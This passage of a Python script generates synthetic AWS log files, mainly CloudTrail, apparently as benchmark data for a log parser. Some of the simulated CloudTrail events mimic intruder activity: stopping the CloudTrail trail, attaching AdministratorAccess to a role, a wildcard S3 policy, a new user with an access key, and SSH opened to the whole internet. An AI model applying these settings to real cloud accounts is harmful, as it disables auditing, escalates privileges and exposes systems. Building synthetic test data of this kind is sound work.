            None,
            None,
            None,
        )
    if name == "DescribeSecurityGroups":
        return (
            {
                "securityGroupSet": {},
                "securityGroupIdSet": {"items": [{"groupId": f"sg-0{v['hex'][:16]}"}]},
                "filterSet": {},
            },
            None,
            None,
            None,
        )
    if name in ("Decrypt", "GenerateDataKey"):
        kms = f"arn:aws:kms:{REGION}:{a}:key/1234abcd-12ab-34cd-56ef-1234567890ab"
        req = {
            "encryptionContext": {"aws:s3:arn": f"arn:aws:s3:::{bucket}/{key}"},
            "encryptionAlgorithm": "SYMMETRIC_DEFAULT",
        }
        if name == "GenerateDataKey":
            req = {
                "keyId": kms,
                "encryptionContext": {
                    "aws:lambda:FunctionArn": f"arn:aws:lambda:{REGION}:{a}:function:orders-processor"
                },
                "keySpec": "AES_256",
            }
        return req, None, None, [{"accountId": a, "type": "AWS::KMS::Key", "ARN": kms}]
    if name == "AssumeRole":
        role, session = v["role"]
        target = f"arn:aws:iam::{v['account']}:role/{role}"
        resp = {
            "credentials": {
                "accessKeyId": "ASIA" + v["key"],
                "sessionToken": "IQoJb3JpZ2luX2VjE" + v["hex"] * 3,
                "expiration": "Mar 10, 2025, 1:05:12 AM",
            },
            "assumedRoleUser": {
                "assumedRoleId": f"AROA3XFRBF535PLBIFPI4:{session}",
                "arn": f"arn:aws:sts::{v['account']}:assumed-role/{role}/{session}",
            },
        }
        return (
            {"roleArn": target, "roleSessionName": session, "durationSeconds": 3600},
            resp,
            None,
            [{"accountId": v["account"], "type": "AWS::IAM::Role", "ARN": target}],
        )
    if name == "GetCallerIdentity":
        return None, None, None, None
    if name == "CreateLogStream":
        return (
            {
                "logGroupName": "/aws/lambda/orders-processor",
                "logStreamName": f"2025/03/10/[$LATEST]{v['hex']}",
            },
            None,
            None,
            None,
        )
    if name == "Invoke":
        fn = f"arn:aws:lambda:{REGION}:{a}:function:orders-processor"
        return (
            {
                "functionName": fn,
                "invocationType": "RequestResponse",
                "logType": "None",
                "qualifier": "$LATEST",
            },
            None,
            {"functionVersion": f"{fn}:$LATEST"},
            [{"accountId": a, "type": "AWS::Lambda::Function", "ARN": fn}],
        )
    if name == "DescribeTable":
        return {"tableName": "orders"}, None, None, None
    if name == "GetParameter":
        return {"name": "/prod/orders/db-host", "withDecryption": True}, None, None, None
    if name == "GetSecretValue":
        return (
            {"secretId": f"arn:aws:secretsmanager:{REGION}:{a}:secret:prod/orders/db-AbCdEf"},
            None,
            None,
            None,
        )
    if name == "ListRoles":
        return {"maxItems": 100}, None, None, None
    if name == "CreateAccessKey":
        resp = {
            "accessKey": {
                "userName": v["user"],
                "accessKeyId": "AKIA" + v["key"],
                "status": "Active",
                "createDate": "Mar 10, 2025, 12:05:12 AM",
            }
        }
        return {"userName": v["user"]}, resp, None, None
    if name == "CreateUser":
        resp = {
            "user": {
                "path": "/",
                "userName": "svc-backup",
                "userId": "AIDA" + v["key"][:17],
                "arn": f"arn:aws:iam::{a}:user/svc-backup",
                "createDate": "Mar 10, 2025, 12:05:12 AM",
            }
        }
        return {"userName": "svc-backup"}, resp, None, None
    if name == "AttachRolePolicy":
        return (
            {
                "roleName": "app-backend-role",
                "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess",
            },
            None,
            None,
            None,
        )
    if name == "PutRolePolicy":
        doc = '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"s3:*","Resource":"*"}]}'
        return (
            {
                "roleName": "lambda-orders-processor",
                "policyName": "inline-s3",
                "policyDocument": doc,
            },
            None,
            None,
            None,
        )
    if name == "RunInstances":
        inst = f"i-0{v['hex'][:16]}"
        req = {
            "instancesSet": {"items": [{"imageId": "ami-0abcdef1234567890", "minCount": 1, "maxCount": 1}]},
            "instanceType": "c5.4xlarge",
            "blockDeviceMapping": {},
            "monitoring": {"enabled": False},
            "disableApiTermination": False,
            "disableApiStop": False,
            "clientToken": v["hex"],
            "networkInterfaceSet": {
                "items": [
                    {
                        "deviceIndex": 0,
                        "subnetId": "subnet-0a1b2c3d4e5f6a7b8",
                        "associatePublicIpAddress": True,
                    }
                ]
            },
            "tagSpecificationSet": {
                "items": [{"resourceType": "instance", "tags": [{"key": "Name", "value": "worker"}]}]
            },
        }
        resp = {
            "requestId": v["uuid"],
            "reservationId": f"r-0{v['hex'][:16]}",
            "ownerId": a,
            "groupSet": {},
            "instancesSet": {
                "items": [
                    {
                        "instanceId": inst,
                        "imageId": "ami-0abcdef1234567890",
                        "currentInstanceBootMode": "uefi",
                        "instanceState": {"code": 0, "name": "pending"},
                        "privateDnsName": "ip-10-0-1-77.ec2.internal",
                        "amiLaunchIndex": 0,
                        "productCodes": {},
                        "instanceType": "c5.4xlarge",
                        "launchTime": 1741565112000,
                        "placement": {"availabilityZone": "us-east-1a", "tenancy": "default"},
                        "monitoring": {"state": "disabled"},
                        "subnetId": "subnet-0a1b2c3d4e5f6a7b8",
                        "vpcId": "vpc-0a1b2c3d4e5f67890",
                        "privateIpAddress": "10.0.1.77",
                    }
                ]
            },
        }
        return req, resp, None, None
    if name == "AuthorizeSecurityGroupIngress":
        req = {
            "groupId": "sg-0123456789abcdef0",
            "ipPermissions": {
                "items": [
                    {
                        "ipProtocol": "tcp",
                        "fromPort": 22,
                        "toPort": 22,
                        "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]},
                    }
                ]
            },
        }
        resp = {
            "requestId": v["uuid"],
            "_return": True,
            "securityGroupRuleSet": {
                "items": [
                    {
                        "groupOwnerId": a,
                        "groupId": "sg-0123456789abcdef0",
                        "securityGroupRuleId": "sgr-0" + v["hex"][:16],
                        "isEgress": False,
                        "ipProtocol": "tcp",
                        "fromPort": 22,
                        "toPort": 22,
                        "cidrIpv4": "0.0.0.0/0",
                    }
                ]
            },
        }
        return req, resp, None, None
    if name == "LookupEvents":
        return (
            {
                "lookupAttributes": [{"attributeKey": "EventName", "attributeValue": "ConsoleLogin"}],
                "maxResults": 50,
            },
            None,
            None,
            None,
        )
    if name == "StopLogging":
        return (
            {"name": f"arn:aws:cloudtrail:{REGION}:{a}:trail/management-events"},
            None,
            None,
            None,
        )
    if name in ("ListDetectors", "ConsoleLogin"):  # ConsoleLogin: filled in by the caller
        return None, None, None, None
    if name == "DescribeTargetHealth":
        return (
            {"targetGroupArn": f"arn:aws:elasticloadbalancing:{REGION}:{a}:targetgroup/web-targets/73e2d6bc24d8a067"},
            None,
            None,
            None,
        )
    raise ValueError(name)


def cloudtrail_records(rng: np.random.Generator, n: int, t0: int, ctx: dict) -> tuple[list[dict], dict[str, int]]:
    names = field_names("cloudtrail")
    us = sorted_times(rng, n, t0, ctx["window"])
    when = iso(us, "s")
    ev = pick(rng, n, EVENTS, [e[2] for e in EVENTS])
    keys = rand_str(rng, n, 16, np.array(list("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567")))
    hexes = rand_str(rng, n, 32)
    uuids = [f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:32]}" for h in rand_str(rng, n, 32)]
    event_ids = [f"{h[:8]}-{h[8:12]}-4{h[13:16]}-b{h[17:20]}-{h[20:32]}" for h in hexes]
    roles = pick(rng, n, ROLES, [30, 8, 6, 4, 20, 0.5, 10])
    users = pick(rng, n, USERS)
    services = pick(rng, n, SERVICES)
    ips = client_ips(rng, n, ctx["seed"], 0.05)
    private = pick(rng, n, pools(ctx["seed"])["private"])
    agents = user_agents(rng, n, AWS_AGENTS)
    fail = rng.random(n).tolist()
    s3keys = [f"exports/customers-{i}.csv.gz" for i in rng.integers(1, 500, n).tolist()]
    sizes = lognormal_ints(rng, n, 40_000, 2.0).tolist()
    tls_v = pick(
        rng,
        n,
        [("TLSv1.3", "TLS_AES_128_GCM_SHA256"), ("TLSv1.2", "ECDHE-RSA-AES128-GCM-SHA256")],
        [7, 3],
    )
    vpce = (rng.random(n) < 0.1).tolist()
    counts = dict.fromkeys(names, 0)
    records = []
    for i in range(n):
        source, name, _, read_only, category, kinds = ev[i]
        role = roles[i]
        if name == "ConsoleLogin":
            kind = "IAMUser" if fail[i] < 0.6 else ("Root" if fail[i] > 0.97 else "AssumedRole")
            role = ROLES[2] if kind == "AssumedRole" else role
        elif kinds == "S":
            kind = "AWSService"
        elif kinds == "ARS":
            kind = "AWSService" if fail[i] < 0.2 else ("IAMUser" if fail[i] > 0.9 else "AssumedRole")
        elif "U" in kinds:
            kind = "IAMUser" if fail[i] < 0.3 else "AssumedRole"
        else:
            kind = "AssumedRole" if fail[i] > 0.05 else "IAMUser"
        cross = kind == "AssumedRole" and fail[i] < 0.03
        v = {
            "account": OTHER_ACCOUNTS[0] if cross else ACCOUNT,
            "role": role,
            "user": users[i],
            "key": keys[i],
            "service": services[i],
            "s3key": s3keys[i],
            "size": sizes[i],
            "hex": hexes[i],
            "uuid": uuids[i],
            "hostid": hexes[i] + "==",
        }
        identity = _identity(kind, v, when[i])
        req, resp, extra, res = _request(source, name, v)
        service_call = kind == "AWSService"
        ip = (
            services[i]
            if service_call
            else (
                private[i]
                if roles[i][0] in ("app-backend-role", "lambda-orders-processor", "eks-node-group-role")
                else ips[i]
            )
        )
        agent = services[i] if service_call else agents[i]
        rec: dict = {
            "eventVersion": "1.11" if category == "Data" else "1.10",
            "userIdentity": identity,
            "eventTime": when[i],
            "eventSource": source,
            "eventName": name,
            "awsRegion": REGION,
            "sourceIPAddress": ip,
            "userAgent": agent,
        }
        error = None
        if not service_call and name != "ConsoleLogin" and fail[i] > 0.955:
            error = (
                (
                    "Client.UnauthorizedOperation",
                    "You are not authorized to perform this operation. User: "
                    f"{identity.get('arn')} is not authorized to perform: ec2:{name} because no identity-based policy allows the ec2:{name} action",  # noqa: E501
                )
                if source == "ec2.amazonaws.com"
                else (
                    "AccessDenied",
                    f"User: {identity.get('arn')} is not authorized to perform: "
                    f"{source.split('.')[0]}:{name} because no identity-based policy allows the action",
                )
            )
        console_fail = name == "ConsoleLogin" and kind == "IAMUser" and fail[i] < 0.15
        if name == "ConsoleLogin":
            rec["eventType"] = "AwsConsoleSignIn"
            rec["userAgent"] = USER_AGENTS[0][0]
            rec["sourceIPAddress"] = ips[i]
            if console_fail:
                rec["errorMessage"] = "Failed authentication"
            resp = {"ConsoleLogin": "Failure" if console_fail else "Success"}
            extra = {
                "LoginTo": "https://console.aws.amazon.com/console/home?hashArgs=%23&isauthcode=true&state=hashArgsFromTB_us-east-1_"
                + hexes[i][:16],
                "MobileVersion": "No",
                "MFAIdentifier": f"arn:aws:iam::{ACCOUNT}:mfa/{users[i]}",
                "MFAUsed": "Yes" if fail[i] > 0.3 else "No",
            }
            req = None
        if error:
            rec["errorCode"], rec["errorMessage"] = error
            resp = None
        rec["requestParameters"] = req
        rec["responseElements"] = resp
        if extra is not None:
            rec["additionalEventData"] = extra
        rec["requestID"] = uuids[i]
        rec["eventID"] = event_ids[i]
        rec["readOnly"] = read_only
        if res is not None:
            rec["resources"] = res
        rec.setdefault("eventType", "AwsApiCall")
        if name == "ConsoleLogin":
            rec.pop("requestID")
        else:
            rec["apiVersion"] = "2006-03-01" if source == "s3.amazonaws.com" and category == "Data" else None
            if rec["apiVersion"] is None:
                del rec["apiVersion"]
        rec["managementEvent"] = category == "Management"
        rec["recipientAccountId"] = ACCOUNT
        if name == "AssumeRole" and cross:
            rec["sharedEventID"] = uuids[(i + 1) % n]
        if (
            vpce[i]
            and source in ("s3.amazonaws.com", "kms.amazonaws.com", "secretsmanager.amazonaws.com")
            and not service_call
        ):
            rec["vpcEndpointId"] = "vpce-0a1b2c3d4e5f6a7b8"
            rec["vpcEndpointAccountId"] = ACCOUNT
        rec["eventCategory"] = category
        if kind in ("AssumedRole",) and role[0].startswith("AWSReservedSSO") and agent == "console.amazonaws.com":
            rec["sessionCredentialFromConsole"] = "true"
        if not service_call and name != "ConsoleLogin":
            rec["tlsDetails"] = {
                "tlsVersion": tls_v[i][0],
                "cipherSuite": tls_v[i][1],
                "clientProvidedHostHeader": source.replace(".amazonaws.com", f".{REGION}.amazonaws.com"),
            }
        ordered = {k: rec[k] for k in names if k in rec}  # AWS field order of awsir's definition
        assert len(ordered) == len(rec), set(rec) - set(ordered)
        for k, val in ordered.items():
            counts[k] += val is not None
        records.append(ordered)
    return records, counts


# --------------------------------------------------------------------------------------------
# Files: AWS key layout, one worker task per file
# --------------------------------------------------------------------------------------------

TEXT_GENERATORS: dict[str, Callable] = {
    "alb": alb,
    "elb_classic": elb_classic,
    "s3_access": s3_access,
    "vpc_flow": vpc_flow,
    "cloudfront": cloudfront,
}
JSON_GENERATORS: dict[str, Callable] = {"waf": waf, "route53_resolver": route53_resolver}
DELIMITER = {"cloudfront": "\t"}


def stamp(t: int, fmt: str) -> str:
    return dt.datetime.fromtimestamp(t, dt.UTC).strftime(fmt)


def key_of(fmt: str, t0: int, i: int, rnd: str, ctx: dict) -> str:
    day = stamp(t0, "%Y/%m/%d")
    at = stamp(t0, "%Y%m%dT%H%MZ")
    base = f"AWSLogs/{ACCOUNT}"
    if fmt == "alb":
        return f"{base}/elasticloadbalancing/{REGION}/{day}/{ACCOUNT}_elasticloadbalancing_{REGION}_app.my-loadbalancer.50dc6c495c0c9188_{at}_10.0.{i % 3}.{17 + i % 5}_{rnd[:8]}.log.gz"  # noqa: E501
    if fmt == "elb_classic":
        return f"{base}/elasticloadbalancing/{REGION}/{day}/{ACCOUNT}_elasticloadbalancing_{REGION}_my-loadbalancer_{at}_10.0.{i % 3}.{17 + i % 5}_{rnd[:8]}.log"  # noqa: E501
    if fmt == "s3_access":
        return f"s3-access-logs/{stamp(t0 + i % 60, '%Y-%m-%d-%H-%M-%S')}-{rnd[:16].upper().translate(HEXIFY)}"
    if fmt == "vpc_flow":
        return f"{base}/vpcflowlogs/{REGION}/{day}/{ACCOUNT}_vpcflowlogs_{REGION}_fl-0a1b2c3d4e5f6a7b8_{at}_{rnd[:8]}.log.gz"  # noqa: E501
    if fmt == "cloudfront":
        return f"cloudfront/{ctx['dist']}.{stamp(t0, '%Y-%m-%d-%H')}.{rnd[:8]}.gz"
    if fmt == "cloudtrail":
        return f"{base}/CloudTrail/{REGION}/{day}/{ACCOUNT}_CloudTrail_{REGION}_{at}_{rnd[:16].upper()}.json.gz"
    if fmt == "waf":
        return f"{base}/WAFLogs/{REGION}/{ctx['acl']}/{stamp(t0, '%Y/%m/%d/%H/%M')}/{ACCOUNT}_waflogs_{REGION}_{ctx['acl']}_{at}_{rnd[:8]}.log.gz"  # noqa: E501
    if fmt == "route53_resolver":
        return f"{base}/vpcdnsquerylogs/{ctx['vpc']}/{day}/{ctx['vpc']}_vpcdnsquerylogs_{ACCOUNT}_{at}_{rnd[:8]}.log.gz"
    raise ValueError(fmt)


def context(fmt: str, seed: int) -> dict:
    return {
        "seed": seed,
        "window": FORMATS[fmt][2],
        "lb": "app/my-loadbalancer/50dc6c495c0c9188" if fmt == "alb" else "my-loadbalancer",
        "bucket": "amzn-s3-demo-bucket1",
        "owner": "79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be",
        "dist": "E2EXAMPLE1MNOPQ",
        "acl": "app-web-acl",
        "vpc": "vpc-0a1b2c3d4e5f67890",
    }


def render(
    fmt: str, rng: np.random.Generator, n: int, t0: int, ctx: dict
) -> tuple[bytes, dict[str, int], dict[str, int]]:
    """The uncompressed content of one file and, per AWS field, how many records hold a value
    and (int fields) the sum of the values."""
    names = field_names(fmt)
    if fmt == "cloudtrail":
        records, counts = cloudtrail_records(rng, n, t0, ctx)
        return json.dumps({"Records": records}, separators=(",", ":")).encode(), counts, {}
    if fmt in JSON_GENERATORS:
        columns = JSON_GENERATORS[fmt](rng, n, t0, ctx)
        _same_fields(fmt, names, columns)
        counts = {k: sum(1 for v in columns[k] if v is not None and v != "null") for k in names}
        keyed = [[None if v is None else f'"{k}":{v}' for v in columns[k]] for k in names]
        lines = ["{" + ",".join([p for p in row if p is not None]) + "}" for row in rows(*keyed)]
        return ("\n".join(lines) + "\n").encode(), counts, int_sums(fmt, columns)
    columns = TEXT_GENERATORS[fmt](rng, n, t0, ctx)
    _same_fields(fmt, names, columns)
    sep = DELIMITER.get(fmt, " ")
    body = "\n".join(map(sep.join, rows(*(columns[k] for k in names)))) + "\n"
    if fmt == "vpc_flow":
        body = " ".join(names) + "\n" + body
    elif fmt == "cloudfront":
        body = "#Version: 1.0\n#Fields: " + " ".join(names) + "\n" + body
    return body.encode(), nonnull_text(columns), int_sums(fmt, columns)


def _same_fields(fmt: str, names: tuple[str, ...], columns: dict) -> None:
    if set(columns) != set(names):
        raise SystemExit(
            f"{fmt}: the generator and awsir's definition disagree on fields: "
            f"missing {sorted(set(names) - set(columns))}, unknown {sorted(set(columns) - set(names))}"
        )


def compress(data: bytes) -> bytes:
    try:
        from isal import igzip  # 5-10x faster than zlib; any valid gzip stream will do

        return igzip.compress(data, compresslevel=2, mtime=0)
    except ImportError:
        return gzip.compress(data, compresslevel=6, mtime=0)


def write_file(task: tuple) -> dict:
    fmt, index, n, t0, seed, out, gzip_all = task
    rng = np.random.default_rng([seed, list(FORMATS).index(fmt), index])
    ctx = context(fmt, seed)
    data, counts, sums = render(fmt, rng, n, t0, ctx)
    name = key_of(fmt, t0, index, rand_str(rng, 1, 16, ALNUM)[0], ctx)
    compressed = FORMATS[fmt][3] or gzip_all
    if compressed and not name.endswith(".gz"):
        name += ".gz"
    stored = compress(data) if compressed else data
    path = Path(out) / fmt / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(stored)
    return {
        "format": fmt,
        "events": n,
        "raw": len(data),
        "stored": len(stored),
        "nonnull": counts,
        "sums": sums,
        "first": t0,
        "last": t0 + FORMATS[fmt][2],
    }


def plan(fmt: str, events: int, seed: int) -> list[tuple[int, int]]:
    """(events, window start) per file: sizes vary around the format's typical file size."""
    _, per_file, window, _ = FORMATS[fmt]
    rng = np.random.default_rng([seed, list(FORMATS).index(fmt), 10**6])
    sizes, total = [], 0
    while total < events:
        low, high = (1000, 5000) if fmt == "cloudtrail" else (per_file // 2, per_file * 3 // 2)
        size = min(int(rng.integers(low, high + 1)), events - total)
        sizes.append(size)
        total += size
    return [(s, START + i * window) for i, s in enumerate(sizes)]


def generate(
    formats: list[str],
    events: int,
    cloudtrail_events: int,
    seed: int,
    out: Path,
    workers: int,
    gzip_all: bool = False,
    log: Callable[[str], None] = print,
) -> dict:
    out.mkdir(parents=True, exist_ok=True)
    manifest = {"generator": GENERATOR_VERSION, "seed": seed, "gzip_all": gzip_all, "formats": {}}
    previous = read_manifest(out)
    if previous and all(previous.get(k) == manifest[k] for k in ("generator", "seed", "gzip_all")):
        manifest["formats"] = {k: v for k, v in previous["formats"].items() if k not in formats}
    tasks = []
    for fmt in formats:
        n = cloudtrail_events if fmt == "cloudtrail" else events
        tasks += [(fmt, i, size, t0, seed, str(out), gzip_all) for i, (size, t0) in enumerate(plan(fmt, n, seed))]
    started = time.perf_counter()
    per_format: dict[str, dict] = {}
    with ProcessPoolExecutor(max_workers=workers) as pool:
        for result in pool.map(write_file, tasks, chunksize=1):
            agg = per_format.setdefault(
                result["format"],
                {
                    "files": 0,
                    "events": 0,
                    "raw_bytes": 0,
                    "stored_bytes": 0,
                    "nonnull": {},
                    "sums": {},
                    "window": [result["first"], result["last"]],
                },
            )
            agg["window"] = [
                min(agg["window"][0], result["first"]),
                max(agg["window"][1], result["last"]),
            ]
            for k, v in result["sums"].items():
                agg["sums"][k] = agg["sums"].get(k, 0) + v
            agg["files"] += 1
            agg["events"] += result["events"]
            agg["raw_bytes"] += result["raw"]
            agg["stored_bytes"] += result["stored"]
            for k, v in result["nonnull"].items():
                agg["nonnull"][k] = agg["nonnull"].get(k, 0) + v
    for fmt in formats:
        agg = per_format[fmt]
        agg["source"] = FORMATS[fmt][0]
        agg["compressed"] = FORMATS[fmt][3] or gzip_all
        manifest["formats"][fmt] = agg
        log(
            f"{fmt:17} {agg['files']:5} files {agg['events']:>10,} events {agg['raw_bytes'] / 1e6:9.1f} MB raw "
            f"{agg['stored_bytes'] / 1e6:8.1f} MB stored"
        )
    log(f"generated in {time.perf_counter() - started:.1f} s with {workers} workers")
    (out / "manifest.json").write_text(json.dumps(manifest, indent=1) + "\n")
    return manifest


def read_manifest(out: Path) -> dict | None:
    try:
        return json.loads((out / "manifest.json").read_text())
    except (OSError, ValueError):
        return None


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(
        description=__doc__.split("\n\n")[0], formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--events", type=int, default=1_000_000, help="events per line format (default 1,000,000)")
    parser.add_argument(
        "--cloudtrail-events",
        type=int,
        default=300_000,
        help="CloudTrail records (default 300,000)",
    )
    parser.add_argument("--formats", default=",".join(FORMATS), help=f"comma-separated, from: {', '.join(FORMATS)}")
    parser.add_argument("--seed", type=int, default=42)
    parser.add_argument("--out", type=Path, default=Path(__file__).parent / "data")
    parser.add_argument("--workers", type=int, default=os.cpu_count() or 1)
    parser.add_argument(
        "--gzip-all",
        action="store_true",
        help="also gzip S3 access and Classic ELB logs (AWS does not)",
    )
    args = parser.parse_args(argv)
    formats = [f.strip() for f in args.formats.split(",") if f.strip()]
    unknown = [f for f in formats if f not in FORMATS]
    if unknown:
        parser.error(f"unknown formats {unknown}; known: {', '.join(FORMATS)}")
    for fmt in formats:
        target = args.out / fmt
        if target.exists():
            import shutil

            shutil.rmtree(target)
    generate(
        formats,
        args.events,
        args.cloudtrail_events,
        args.seed,
        args.out,
        args.workers,
        args.gzip_all,
    )


if __name__ == "__main__":
    sys.exit(main())
